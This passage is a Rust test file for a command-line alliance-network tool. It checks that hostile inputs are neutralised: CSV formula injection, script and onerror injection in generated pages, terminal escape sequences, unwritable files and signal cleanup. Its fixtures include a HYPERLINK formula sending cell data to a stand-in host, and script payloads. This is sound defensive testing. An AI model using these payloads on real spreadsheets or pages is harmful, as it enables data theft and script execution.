//! Issue 25: the adversarial pass's findings, each reproduced on a small hostile input: formula
//! injection into CSV, hostile names in pages, files the user may not write, unbounded memory,
//! values changed on the way out, silent choices, wrong messages and leftovers.

use crate::common::{pactnet, show, with_inputs, MEMBER_HEADER};

/// A COW list whose abbreviation and name are spreadsheet formulas and page-breaking markup.
const HOSTILE_STATES: &str = "stateabb,ccode,statenme,styear,stmonth,stday,endyear,endmonth,endday,version
@US,2,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",1816,1,1,2016,12,31,2016
UKG,200,<!--<script>,1816,1,1,2016,12,31,2016
FRN,220,</script><script>document.title='owned'</script>,1816,1,1,2016,12,31,2016
RUS,365,Russia,1816,1,1,2016,12,31,2016
";

/// 1001: USA–UKG–FRN defense 1900–1910; 1002: UKG–RUS nonaggression 1950–0.
const ROWS: &str = "1001,2,1900,1,1,1910,1,1,1,1,0,0,0,0
1001,200,1900,1,1,1910,1,1,1,1,0,0,0,0
1001,220,1900,1,1,1910,1,1,1,1,0,0,0,0
1002,200,1950,1,1,0,,,1,0,0,0,1,0
1002,365,1950,1,1,0,,,1,0,0,0,1,0
";

/// A temporary directory with the hostile states and `rows`.
pub fn hostile(rows: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("temp dir");
    std::fs::write(dir.path().join("states.csv"), HOSTILE_STATES).expect("write states");
    std::fs::write(dir.path().join("members.csv"), format!("{MEMBER_HEADER}\n{rows}")).expect("write members");
    dir
}

fn stdout(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// Every CSV field of `text` that a spreadsheet would run as a formula.
fn live_formulas(text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    let mut found = Vec::new();
    for record in reader.records() {
        for field in record.expect("CSV").iter() {
            let number = field.parse::<f64>().is_ok_and(f64::is_finite);
            if field.starts_with(['=', '+', '-', '@', '\t', '\r']) && !number {
                found.push(field.to_string());
            }
        }
    }
    found
}

#[test]
fn issue25_no_formula_reaches_a_csv_cell_of_any_command() {
    let dir = hostile(ROWS);
    let commands: [&[&str]; 7] = [
        &["snapshot", "--year", "1905", "--nodes"],
        &["metrics", "--level", "node", "--years", "1905"],
        &["blocs", "--years", "1905"],
        &["reach", "2", "--year", "1905"],
        &["state", "2"],
        &["state", "2", "--by-year"],
        &["export", "alliances"],
    ];
    for args in commands {
        let mut full = with_inputs(args);
        full.extend(["--format", "csv"]);
        let o = pactnet(dir.path(), &full);
        assert!(o.status.success(), "{args:?}: {}", show(&o));
        let text = stdout(&o);
        assert_eq!(live_formulas(&text), Vec::<String>::new(), "{args:?}:\n{text}");
    }
    // The guarded cells read back as the text with a leading quote; --raw-csv gives the bytes.
    let o = pactnet(dir.path(), &with_inputs(&["snapshot", "--year", "1905", "--nodes", "--format", "csv"]));
    assert!(stdout(&o).contains("2,'@US,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",2\n"), "{}", show(&o));
    let o =
        pactnet(dir.path(), &with_inputs(&["snapshot", "--year", "1905", "--nodes", "--format", "csv", "--raw-csv"]));
    assert!(stdout(&o).contains("2,@US,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",2\n"), "{}", show(&o));
    // JSON is not for spreadsheets: the values as they are.
    let o = pactnet(dir.path(), &with_inputs(&["snapshot", "--year", "1905", "--nodes", "--format", "json"]));
    let rows: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(rows[0]["abbr"], "@US");
}

#[test]
fn issue25_the_reports_tables_are_spreadsheet_safe() {
    let dir = hostile(ROWS);
    let o = pactnet(
        dir.path(),
        &with_inputs(&[
            "report",
            "-o",
            "rep",
            "--years",
            "1900..1910",
            "--network-years",
            "1905",
            "--width",
            "300",
            "--height",
            "200",
        ]),
    );
    assert!(o.status.success(), "{}", show(&o));
    for name in ["node_metrics.csv", "blocs.csv", "graph_metrics.csv", "blocs_summary.csv", "closure.csv"] {
        let text = std::fs::read_to_string(dir.path().join("rep").join(name)).expect("written");
        assert_eq!(live_formulas(&text), Vec::<String>::new(), "{name}:\n{text}");
    }
    let nodes = std::fs::read_to_string(dir.path().join("rep/node_metrics.csv")).expect("written");
    assert!(nodes.contains(",'@US,"), "{nodes}");
}

/// `state MEX --format json` turned partner `U S` into `"U","S"` and `007` into 7.
#[test]
fn issue25_json_lists_hold_the_values_as_they_are() {
    let states = "stateabb,ccode,statenme,styear,stmonth,stday,endyear,endmonth,endday,version
U S,2,United States of America,1816,1,1,2016,12,31,2016
007,200,United Kingdom,1816,1,1,2016,12,31,2016
MEX,70,Mexico,1816,1,1,2016,12,31,2016
";
    let dir = tempfile::tempdir().expect("temp dir");
    std::fs::write(dir.path().join("states.csv"), states).expect("write");
    let rows = "1001,2,1900,1,1,1910,1,1,1,1,0,0,0,0\n1001,200,1900,1,1,1910,1,1,1,1,0,0,0,0\n1001,70,1900,1,1,1910,1,1,1,1,0,0,0,0\n";
    std::fs::write(dir.path().join("members.csv"), format!("{MEMBER_HEADER}\n{rows}")).expect("write");
    let o = pactnet(dir.path(), &with_inputs(&["state", "MEX", "--format", "json"]));
    assert!(o.status.success(), "{}", show(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(v[0]["partners"], serde_json::json!(["U S", "007"]), "{}", show(&o));
}

/// Terminal escape sequences in a state's name are shown escaped in `--format table`.
#[test]
fn issue25_tables_show_terminal_escapes_escaped() {
    let states = "stateabb,ccode,statenme,styear,stmonth,stday,endyear,endmonth,endday,version
USA,2,\"\u{1b}]0;owned\u{7}\u{1b}[31mRed\",1816,1,1,2016,12,31,2016
UKG,200,United Kingdom,1816,1,1,2016,12,31,2016
";
    let dir = tempfile::tempdir().expect("temp dir");
    std::fs::write(dir.path().join("states.csv"), states).expect("write");
    let rows = "1001,2,1900,1,1,1910,1,1,1,1,0,0,0,0\n1001,200,1900,1,1,1910,1,1,1,1,0,0,0,0\n";
    std::fs::write(dir.path().join("members.csv"), format!("{MEMBER_HEADER}\n{rows}")).expect("write");
    let o = pactnet(dir.path(), &with_inputs(&["snapshot", "--year", "1905", "--nodes", "--format", "table"]));
    assert!(o.status.success(), "{}", show(&o));
    let text = stdout(&o);
    assert!(!text.contains('\u{1b}') && !text.contains('\u{7}'), "{text:?}");
    assert!(text.contains("\\u{1b}]0;owned\\u{7}\\u{1b}[31mRed"), "{text}");
    // The state's own heading and an alliance's text too.
    for args in [&["state", "2", "--format", "table"][..], &["alliance", "1001"]] {
        let o = pactnet(dir.path(), &with_inputs(args));
        assert!(o.status.success(), "{args:?}: {}", show(&o));
        let text = stdout(&o);
        assert!(!text.contains('\u{1b}') && !text.contains('\u{7}'), "{args:?}: {text:?}");
        assert!(text.contains("\\u{1b}[31mRed"), "{args:?}: {text}");
    }
}

/// A report that fails half-way (here: its last file cannot be written) leaves nothing new: no
/// table of it, and no directory when it made the directory.
#[test]
fn issue25_a_failed_report_leaves_nothing_new() {
    let dir = hostile(ROWS);
    let rep = dir.path().join("rep");
    std::fs::create_dir_all(rep.join("index.html")).expect("a directory where the page goes");
    std::fs::write(rep.join("notes.txt"), "mine").expect("write");
    let args = with_inputs(&[
        "report",
        "-o",
        "rep",
        "--years",
        "1900..1910",
        "--network-years",
        "1905",
        "--width",
        "300",
        "--height",
        "200",
    ]);
    let o = pactnet(dir.path(), &args);
    assert_eq!(o.status.code(), Some(1), "{}", show(&o));
    assert!(String::from_utf8_lossy(&o.stderr).contains("index.html: cannot write: it is a directory"), "{}", show(&o));
    let mut left: Vec<String> = std::fs::read_dir(&rep)
        .expect("kept")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    left.sort();
    assert_eq!(left, ["index.html", "notes.txt"]);
}

/// Runs pactnet as the unprivileged user `nobody` (setpriv) in `dir`.
#[cfg(unix)]
fn pactnet_as_nobody(dir: &std::path::Path, args: &[&str]) -> std::process::Output {
    std::process::Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
        .arg(env!("CARGO_BIN_EXE_pactnet"))
        .args(args)
        .current_dir(dir)
        .output()
        .expect("setpriv runs")
}

/// As an unprivileged user, `-o` onto a root-owned file of mode 0444 or 0644 in a world-writable
/// folder was replaced (and changed owner). It is refused now, as the shell's `>` would be, the
/// file left as it was; a file the user owns is still replaced, keeping its mode.
#[cfg(unix)]
#[test]
#[cfg_attr(not(pactnet_root), ignore = "needs root and setpriv to run as an unprivileged user")]
fn issue25_a_file_the_user_may_not_write_is_not_replaced() {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let dir = crate::common::inputs("1001,2,1900,1,1,1910,1,1,1,1,0,0,0,0\n1001,200,1900,1,1,1910,1,1,1,1,0,0,0,0\n");
    let path = dir.path();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o1777)).expect("chmod");
    for f in ["members.csv", "states.csv"] {
        std::fs::set_permissions(path.join(f), std::fs::Permissions::from_mode(0o644)).expect("chmod");
    }
    for mode in [0o444, 0o644] {
        let target = path.join(format!("root-{mode:o}.csv"));
        std::fs::write(&target, "root's\n").expect("write");
        std::fs::set_permissions(&target, std::fs::Permissions::from_mode(mode)).expect("chmod");
        let name = target.file_name().and_then(|n| n.to_str()).expect("name").to_string();
        let o = pactnet_as_nobody(path, &with_inputs(&["-q", "snapshot", "--year", "1905", "-o", &name]));
        assert_eq!(o.status.code(), Some(1), "{}", show(&o));
        let stderr = String::from_utf8_lossy(&o.stderr);
        assert!(stderr.contains(&format!("{name}: cannot write: you may not write this file")), "{}", show(&o));
        let meta = std::fs::metadata(&target).expect("still there");
        assert_eq!((meta.uid(), meta.mode() & 0o777), (0, mode));
        assert_eq!(std::fs::read_to_string(&target).expect("read"), "root's\n");
        // No temporary left behind.
        let temporaries = std::fs::read_dir(path)
            .expect("list")
            .filter(|e| e.as_ref().is_ok_and(|e| e.file_name().to_string_lossy().starts_with(".pactnet-")))
            .count();
        assert_eq!(temporaries, 0);
    }
    // nobody's own file (mode 0640) is replaced and keeps its owner and mode.
    let own = path.join("own.csv");
    std::fs::write(&own, "old\n").expect("write");
    std::os::unix::fs::chown(&own, Some(65534), Some(65534)).expect("chown");
    std::fs::set_permissions(&own, std::fs::Permissions::from_mode(0o640)).expect("chmod");
    let o = pactnet_as_nobody(path, &with_inputs(&["-q", "snapshot", "--year", "1905", "-o", "own.csv"]));
    assert!(o.status.success(), "{}", show(&o));
    let meta = std::fs::metadata(&own).expect("there");
    assert_eq!((meta.uid(), meta.mode() & 0o777), (65534, 0o640));
    assert_eq!(std::fs::read_to_string(&own).expect("read"), "a,b,weight,atopids\n2,200,1,1001\n");
}

/// `-o -` is stdout (it wrote a file named `-`); a write to a closed stdout (`info >&-`) is an
/// error, exit 1 (it exited 0 having written nothing); `>/dev/null` still discards quietly.
#[cfg(unix)]
#[test]
fn issue25_dash_is_stdout_and_a_closed_stdout_is_an_error() {
    let dir = hostile(ROWS);
    let o = pactnet(dir.path(), &with_inputs(&["-q", "snapshot", "--year", "1905", "-o", "-"]));
    assert!(o.status.success(), "{}", show(&o));
    assert_eq!(stdout(&o), "a,b,weight,atopids\n2,200,1,1001\n2,220,1,1001\n200,220,1,1001\n");
    assert!(!dir.path().join("-").exists());
    let o = pactnet(dir.path(), &with_inputs(&["-q", "explore", "-o", "-"]));
    assert!(o.status.success() && stdout(&o).starts_with("<!DOCTYPE html>"), "{}", show(&o));
    assert!(!dir.path().join("-").exists());
    let closed = |args: &[&str]| {
        let mut command = String::from("exec \"$0\"");
        for (k, _) in args.iter().enumerate() {
            command.push_str(&format!(" \"${}\"", k + 1));
        }
        command.push_str(" >&-");
        std::process::Command::new("sh")
            .arg("-c")
            .arg(command)
            .arg(env!("CARGO_BIN_EXE_pactnet"))
            .args(args)
            .current_dir(dir.path())
            .output()
            .expect("sh runs")
    };
    let sheet = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/codesheets/4255.txt");
    for args in [&["info"][..], &["snapshot", "--year", "1905"], &["codesheet", sheet], &["completions", "bash"]] {
        let o = closed(args);
        assert_eq!(o.status.code(), Some(1), "{args:?}: {}", show(&o));
        assert!(String::from_utf8_lossy(&o.stderr).contains("cannot write to stdout: it is closed"), "{}", show(&o));
    }
    let o = std::process::Command::new("sh")
        .args(["-c", "exec \"$0\" -q info >/dev/null"])
        .arg(env!("CARGO_BIN_EXE_pactnet"))
        .output()
        .expect("sh runs");
    assert!(o.status.success(), "{}", show(&o));
}

/// The page of `url` after its scripts ran, as headless Chromium serialises it.
fn dump_dom(dir: &std::path::Path, page: &std::path::Path) -> String {
    let browser = ["chromium", "chromium-browser", "google-chrome"]
        .into_iter()
        .find(|b| std::process::Command::new(b).arg("--version").output().is_ok_and(|o| o.status.success()))
        .expect("chromium (the test is ignored without it)");
    let o = std::process::Command::new(browser)
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"])
        .arg("--virtual-time-budget=5000")
        .arg(format!("--user-data-dir={}", dir.join("profile").display()))
        .arg("--dump-dom")
        .arg(format!("file://{}", page.display()))
        .output()
        .expect("chromium runs");
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// A state named `<!--<script>` (or `</script><script>…`), and a member file so named, left the
/// explore page's script inside the data element: `#summary` stayed empty. Now the explore page
/// and the report's copy work (the summary is filled, the title is the page's, the names are
/// shown as text) and no injected script or handler ran. Each hostile name is tried alone as
/// well as all together: two of them together balance HTML's script-data states (`<!--<script>`
/// then `</script>` …) and would hide each other's effect.
#[test]
#[cfg_attr(not(pactnet_chromium), ignore = "no chromium on this machine (apt-get install chromium)")]
fn issue25_hostile_names_neither_break_nor_script_the_pages() {
    // A script and an image handler that would mark the page if they ran; U+2028 is a line end
    // in older JavaScript.
    let script = "</script><script>window.PWNED=1;document.title='owned';document.documentElement.dataset.pwned='script'</script>";
    let image = "<img src=x onerror=\"document.documentElement.dataset.pwned='img'\">\u{2028}Russia";
    let quoted = |name: &str| format!("\"{}\"", name.replace('"', "\"\""));
    let plain = "stateabb,ccode,statenme,styear,stmonth,stday,endyear,endmonth,endday,version
USA,2,United States of America,1816,1,1,2016,12,31,2016
UKG,200,United Kingdom,1816,1,1,2016,12,31,2016
FRN,220,France,1816,1,1,2016,12,31,2016
RUS,365,Russia,1816,1,1,2016,12,31,2016
";
    let all = HOSTILE_STATES
        .replace("</script><script>document.title='owned'</script>", script)
        .replace("RUS,365,Russia,", &format!("RUS,365,{},", quoted(image)));
    let variants = [
        ("a comment opening", plain.replace("United Kingdom", "<!--<script>"), "&lt;!--&lt;script&gt;"),
        ("a script", plain.replace("France", script), "window.PWNED=1"),
        ("an image handler", plain.replace("RUS,365,Russia,", &format!("RUS,365,{},", quoted(image))), "onerror="),
        ("all together", all, "&lt;!--&lt;script&gt;"),
    ];
    for (what, states, shown) in variants {
        let dir = hostile(ROWS);
        let path = dir.path();
        std::fs::write(path.join("states.csv"), &states).expect("write states");
        let members = "<!--<script>members.csv";
        std::fs::rename(path.join("members.csv"), path.join(members)).expect("rename");
        let args = ["-q", "--members", members, "--states", "states.csv"];
        let o = pactnet(path, &[&args[..], &["explore", "-o", "explore.html", "--years", "1900..1950"]].concat());
        assert!(o.status.success(), "{what}: {}", show(&o));
        let report = [
            "report",
            "-o",
            "rep",
            "--years",
            "1900..1950",
            "--network-years",
            "1905",
            "--width",
            "300",
            "--height",
            "200",
        ];
        let o = pactnet(path, &[&args[..], &report[..]].concat());
        assert!(o.status.success(), "{what}: {}", show(&o));
        for page in [path.join("explore.html"), path.join("rep/explore.html")] {
            let html = std::fs::read_to_string(&page).expect("written");
            let data =
                html.split("<script id=\"pactnet-data\" type=\"application/json\">").nth(1).expect("data element");
            let data = data.split("</script>").next().expect("closed");
            assert!(!data.contains(['<', '>', '&', '\u{2028}']), "{what}: markup in the data element: {data}");
            let dom = dump_dom(path, &page);
            let at = format!("{what}, {}", page.display());
            let summary = dom.split("<p id=\"summary\">").nth(1).and_then(|s| s.split("</p>").next()).unwrap_or("");
            assert!(summary.ends_with("4 states · 3 ties"), "{at}: #summary is {summary:?}:\n{dom}");
            let title = dom.split("<title>").nth(1).and_then(|s| s.split("</title>").next()).unwrap_or("");
            assert_eq!(title, "Alliance network 1900–1950 · pactnet explore", "{at}");
            // Nothing injected ran (no mark on the page), and the name is shown as text.
            assert!(!dom.contains("data-pwned"), "{at}: an injected script ran:\n{dom}");
            assert!(dom.contains(shown), "{at}: the name {shown:?} is not shown:\n{dom}");
        }
        // The report's own page: names escaped as text, and nothing runs there either.
        let index = std::fs::read_to_string(path.join("rep/index.html")).expect("written");
        assert!(!index.contains("<!--<script>") && !index.contains("<script>window"), "{what}: {index}");
        let dom = dump_dom(path, &path.join("rep/index.html"));
        assert!(dom.contains("<img") && !dom.contains("data-pwned"), "{what}: report index:\n{dom}");
    }
}

/// SIGUSR1 (and the other fatal signals not handled before) left a `.pactnet-*.tmp`. Every
/// catchable fatal signal now removes it and exits 128 + its number; SIGPIPE, which pactnet
/// ignores, ends nothing: the run completes and leaves no temporary either.
#[cfg(unix)]
#[test]
fn issue25_every_catchable_fatal_signal_leaves_no_temporary() {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path();
    let o = pactnet(path, &["-q", "synth", "--state-count", "800", "--alliance-count", "4000", "-o", "syn"]);
    assert!(o.status.success(), "{}", show(&o));
    let temporaries = || {
        std::fs::read_dir(path)
            .expect("list")
            .filter_map(Result::ok)
            .filter(|e| e.file_name().to_string_lossy().starts_with(".pactnet-"))
            .count()
    };
    let signals = [
        ("INT", 2),
        ("TERM", 15),
        ("HUP", 1),
        ("QUIT", 3),
        ("USR1", 10),
        ("USR2", 12),
        ("ALRM", 14),
        ("XFSZ", 25),
        ("PIPE", 0),
    ];
    for (name, number) in signals {
        let out = format!("dy-{name}.csv");
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_pactnet"))
            .args([
                "-q",
                "--members",
                "syn/members.csv",
                "--states",
                "syn/states.csv",
                "export",
                "dyadyears",
                "-o",
                &out,
            ])
            .current_dir(path)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("pactnet runs");
        // Wait until the write is under way (its temporary exists), then signal.
        let start = std::time::Instant::now();
        while temporaries() == 0 {
            assert!(child.try_wait().expect("wait").is_none(), "{name}: finished before the signal could be sent");
            assert!(start.elapsed().as_secs() < 60, "{name}: no temporary file appeared");
            std::thread::sleep(std::time::Duration::from_millis(5));
        }
        let kill = std::process::Command::new("kill").args(["-s", name, &child.id().to_string()]).status();
        assert!(kill.is_ok_and(|s| s.success()), "kill -s {name}");
        let o = child.wait_with_output().expect("wait");
        assert_eq!(temporaries(), 0, "{name}: a temporary was left");
        if number == 0 {
            assert!(o.status.success(), "{name}: {}", show(&o));
            assert!(path.join(&out).is_file(), "{name}: the run did not complete");
        } else {
            assert_eq!(o.status.code(), Some(128 + number), "{name}: {}", show(&o));
            assert!(!path.join(&out).exists(), "{name}: a half-written target");
        }
    }
}

/// Messages name where the data came from: an edge-limit error about a coding sheet's alliance
/// names the sheet (it named the member file and line 9); an alliance filtered out by --where
/// says so (it said "no alliance", and "nearest atopids: )" when nothing was left).
#[test]
fn issue25_messages_name_the_sheet_and_the_filter() {
    let dir = hostile("5000,2,1950,1,1,2000,1,1,1,1,0,0,0,0\n5000,200,1950,1,1,2000,1,1,1,1,0,0,0,0\n");
    let sheets = dir.path().join("sheets");
    std::fs::create_dir(&sheets).expect("mkdir");
    let sheet = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/codesheets/4255.txt");
    std::fs::copy(sheet, sheets.join("4255.txt")).expect("copy");
    let states = "stateabb,ccode,statenme,styear,stmonth,stday,endyear,endmonth,endday,version
USA,2,United States of America,1816,1,1,2016,12,31,2016
UKG,200,United Kingdom,1816,1,1,2016,12,31,2016
RUS,365,Russia,1816,1,1,2016,12,31,2016
KYR,703,Kyrgyzstan,1991,8,31,2016,12,31,2016
";
    std::fs::write(dir.path().join("states.csv"), states).expect("write");
    let o = pactnet(dir.path(), &with_inputs(&["--codesheets", "sheets", "--max-edges", "0", "info"]));
    assert_eq!(o.status.code(), Some(1), "{}", show(&o));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("4255.txt:") && err.contains("alliance 4255 (2 member rows)"), "{}", show(&o));
    assert!(!err.contains("members.csv"), "{}", show(&o));

    let o = pactnet(dir.path(), &with_inputs(&["alliance", "5000", "--where", "defense = 0"]));
    assert_eq!(o.status.code(), Some(2), "{}", show(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains(
            "alliance 5000 in members.csv is filtered out: --where defense = 0 keeps none of its member rows"
        ),
        "{}",
        show(&o)
    );
    let o = pactnet(dir.path(), &with_inputs(&["alliance", "7", "--where", "defense = 0"]));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("no alliance 7 in members.csv (--where defense = 0 keeps no alliance)"), "{}", show(&o));
    assert!(!err.contains("nearest atopids: )"), "{}", show(&o));
}

/// `synth --alliance-count 0` wrote a member file pactnet refuses to load.
#[test]
fn issue25_synth_refuses_counts_that_make_unusable_data() {
    let dir = tempfile::tempdir().expect("temp dir");
    let o = pactnet(dir.path(), &["synth", "--alliance-count", "0", "-o", "syn"]);
    assert_eq!(o.status.code(), Some(1), "{}", show(&o));
    assert!(String::from_utf8_lossy(&o.stderr).contains("0 alliances: expected 1 to 999000"), "{}", show(&o));
    assert!(!dir.path().join("syn").exists());
    // The smallest accepted data loads.
    let o = pactnet(
        dir.path(),
        &["-q", "synth", "--state-count", "2", "--alliance-count", "1", "--years", "1816..1816", "-o", "syn"],
    );
    assert!(o.status.success(), "{}", show(&o));
    let o = pactnet(dir.path(), &["-q", "--members", "syn/members.csv", "--states", "syn/states.csv", "info"]);
    assert!(o.status.success(), "{}", show(&o));
}

/// A weights file with `200,1` then `200,50` took the last; weights of 1e308 gave `nan`. Both are
/// errors now, the first naming both lines.
#[test]
fn issue25_weights_are_one_per_state_and_never_overflow() {
    let dir = hostile(ROWS);
    std::fs::write(dir.path().join("w1.csv"), "ccode,weight\n200,1\n200,50\n").expect("write");
    std::fs::write(dir.path().join("w2.csv"), "ccode,weight\n200,1e308\n220,1e308\n").expect("write");
    let run = |w: &str| {
        pactnet(dir.path(), &with_inputs(&["similarity", "--years", "1905", "--measure", "s", "--weights", w]))
    };
    let o = run("w1.csv");
    assert_eq!(o.status.code(), Some(1), "{}", show(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr)
            .contains("w1.csv:3: field ccode = \"200\": one weight per state (line 2 already gives state 200 one)"),
        "{}",
        show(&o)
    );
    let o = run("w2.csv");
    assert_eq!(o.status.code(), Some(1), "{}", show(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr)
            .contains("w2.csv:2: field weight = \"1e308\": weights summing to at most 1e300"),
        "{}",
        show(&o)
    );
    assert!(!String::from_utf8_lossy(&o.stdout).contains("nan"));
}

/// Two rows of one alliance that differ in any column (a provision too) were called an "exact
/// duplicate"; now only identical rows are, and the others are a counted warning naming both lines.
#[test]
fn issue25_only_identical_alliance_rows_are_exact_duplicates() {
    let dir = hostile(ROWS);
    std::fs::write(
        dir.path().join("alliances.csv"),
        "atopid,begyr,begmo,begday,endyr,endmo,endday,pubsecr\n1001,1900,1,1,1910,1,1,0\n1001,1900,1,1,1910,1,1,1\n1001,1900,1,1,1910,1,01,0\n1002,1950,1,1,0,,,0\n",
    )
    .expect("write");
    let o = pactnet(dir.path(), &with_inputs(&["--alliances", "alliances.csv", "validate"]));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("alliances.csv: 1 exact duplicate row ignored (first: line 4)"), "{}", show(&o));
    assert!(
        out.contains("alliances.csv: 1 row repeats an atopid with different alliance-level data; the first row is used: 1001 (first: line 3, which repeats line 2)"),
        "{}",
        show(&o)
    );
}

/// The 4255 fixture sheet with `edit` applied, in `dir/sheets`, with a member file whose data
/// runs to 2000 and a COW list with Russia and Kyrgyzstan; runs `validate` and returns stdout.
fn sheet_validate(edit: impl Fn(&str) -> String) -> (std::process::Output, String) {
    let dir = hostile("5000,2,1950,1,1,2000,1,1,1,1,0,0,0,0\n5000,200,1950,1,1,2000,1,1,1,1,0,0,0,0\n");
    let states = "stateabb,ccode,statenme,styear,stmonth,stday,endyear,endmonth,endday,version
USA,2,United States of America,1816,1,1,2016,12,31,2016
UKG,200,United Kingdom,1816,1,1,2016,12,31,2016
RUS,365,Russia,1816,1,1,2016,12,31,2016
KYR,703,Kyrgyzstan,1991,8,31,2016,12,31,2016
";
    std::fs::write(dir.path().join("states.csv"), states).expect("write");
    let sheets = dir.path().join("sheets");
    std::fs::create_dir(&sheets).expect("mkdir");
    let text = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/codesheets/4255.txt"))
        .expect("fixture");
    std::fs::write(sheets.join("4255.txt"), edit(&text)).expect("write");
    let o = pactnet(dir.path(), &with_inputs(&["--codesheets", "sheets", "validate"]));
    let out = String::from_utf8_lossy(&o.stdout).into_owned() + &String::from_utf8_lossy(&o.stderr);
    (o, out)
}

/// `35 June 1992` became 1992-06-01 (and `0 June`, `the 3rd of June`): errors with the line now.
#[test]
fn issue25_impossible_sheet_dates_are_errors_with_the_line() {
    for written in ["35 June 1992", "0 June 1992", "the 3rd of June 1992", "June 35, 1992", "1992-02-30"] {
        let (o, out) = sheet_validate(|t| t.replace("June 10, 1992", written));
        assert_eq!(o.status.code(), Some(1), "{written}: {out}");
        assert!(out.contains("4255.txt:7: field question 3 (signature date)"), "{written}: {out}");
        assert!(out.contains("is none (expected e.g. \"3 June 1992\" or 1992-06-03)"), "{written}: {out}");
    }
    let (o, out) = sheet_validate(|t| t.replace("June 10, 1992", "10 June 1992"));
    assert!(o.status.success(), "{out}");
}

/// `365 Kyrgyzstan` (Russia's code with Kyrgyzstan's name) was accepted silently and the alliance
/// lost a member; it is a warning naming both states now (the code is used).
#[test]
fn issue25_a_sheet_member_whose_code_and_name_disagree_is_a_warning() {
    let (o, out) = sheet_validate(|t| t.replace("703 Kyrgyzstan", "365 Kyrgyzstan"));
    assert!(
        out.contains("4255.txt: 1 member line gives a COW code with the name of another state in the COW list; the code is used (the states: RUS (365) Russia; KYR (703) Kyrgyzstan) (first: line 10)"),
        "{}",
        show(&o)
    );
    let (_, out) = sheet_validate(|t| t.to_string());
    assert!(!out.contains("name of another state"), "{out}");
}

/// A sheet member's name that is no state of the COW list (`365 Narnia`) was taken silently: a
/// counted warning quoting the first name now, the code used. A name that is the start of its
/// state's COW name (`United States`), or has it before or inside a parenthesis, is its state's.
#[test]
fn issue25_a_sheet_member_name_that_is_no_cow_state_is_a_warning() {
    let (o, out) =
        sheet_validate(|t| t.replace("365 Russia:", "365 Narnia:").replace("703 Kyrgyzstan:", "703 Kirgisia:"));
    assert!(o.status.success(), "{}", show(&o));
    assert!(
        out.contains("4255.txt: 2 member lines give a name that is no state's name or abbreviation in the COW list; the code is used (the states: RUS (365) Russia; KYR (703) Kyrgyzstan) (first: line 9: \"Narnia\")"),
        "{}",
        show(&o)
    );
    // The code decides: the alliance keeps both members (2 rows of the member file + 2 of the sheet).
    assert!(out.contains("0 errors, 4 valid member rows"), "{out}");
    for (line, unknown) in [
        ("365 Russia (Union of Soviet Socialist Republics):", false),
        ("365 RUS:", false),
        ("365 russia:", false),
        ("2 United States:", false),
        ("2 U.S.A.:", false),
        ("2 States of America:", true),
        ("365 The Russia:", true),
    ] {
        let (o, out) = sheet_validate(|t| t.replace("365 Russia:", line));
        assert!(o.status.success(), "{line}: {}", show(&o));
        assert_eq!(out.contains("no state's name"), unknown, "{line}: {}", show(&o));
        assert!(!out.contains("name of another state"), "{line}: {out}");
    }
    // A name of another state inside the parenthesis is that state's: a mismatch, not unknown.
    let (o, out) = sheet_validate(|t| t.replace("703 Kyrgyzstan:", "703 Kirgisia (Russia):"));
    assert!(out.contains("4255.txt: 1 member line gives a COW code with the name of another state in the COW list; the code is used (the states: RUS (365) Russia; KYR (703) Kyrgyzstan) (first: line 10)"), "{}", show(&o));
    assert!(!out.contains("no state's name"), "{out}");
}

/// A CR-only sheet gave "no question 1"; a no-break space in "Still in effect" was refused.
#[test]
fn issue25_cr_only_sheets_and_unicode_spaces_read() {
    for (what, edit) in [
        ("CR only", Box::new(|t: &str| t.replace('\n', "\r")) as Box<dyn Fn(&str) -> String>),
        ("CRLF", Box::new(|t: &str| t.replace('\n', "\r\n"))),
        ("U+00A0", Box::new(|t: &str| t.replace("Still in effect", "Still\u{a0}in\u{a0}effect"))),
        ("U+2003", Box::new(|t: &str| t.replace("Still in effect", "Still in\u{2003}effect"))),
        ("U+3000", Box::new(|t: &str| t.replace("Still in effect", "Still\u{3000}in effect"))),
    ] {
        let (o, out) = sheet_validate(edit);
        assert!(o.status.success(), "{what}: {out}");
        assert!(out.contains("0 errors"), "{what}: {out}");
    }
}

/// A Moon–Moser input: `groups` triples of states, every pair from different triples allied
/// (one bilateral alliance each, 1950–1960): 3^groups maximal cliques of `groups` states.
fn moon_moser(groups: usize) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("temp dir");
    let n = 3 * groups;
    let mut states = String::from("stateabb,ccode,statenme,styear,stmonth,stday,endyear,endmonth,endday,version\n");
    for i in 0..n {
        states.push_str(&format!("S{i:02},{},State {i},1816,1,1,2016,12,31,2016\n", 2 + 5 * i));
    }
    let mut members = format!("{MEMBER_HEADER}\n");
    let mut id = 1000;
    for a in 0..n {
        for b in a + 1..n {
            if a / 3 != b / 3 {
                id += 1;
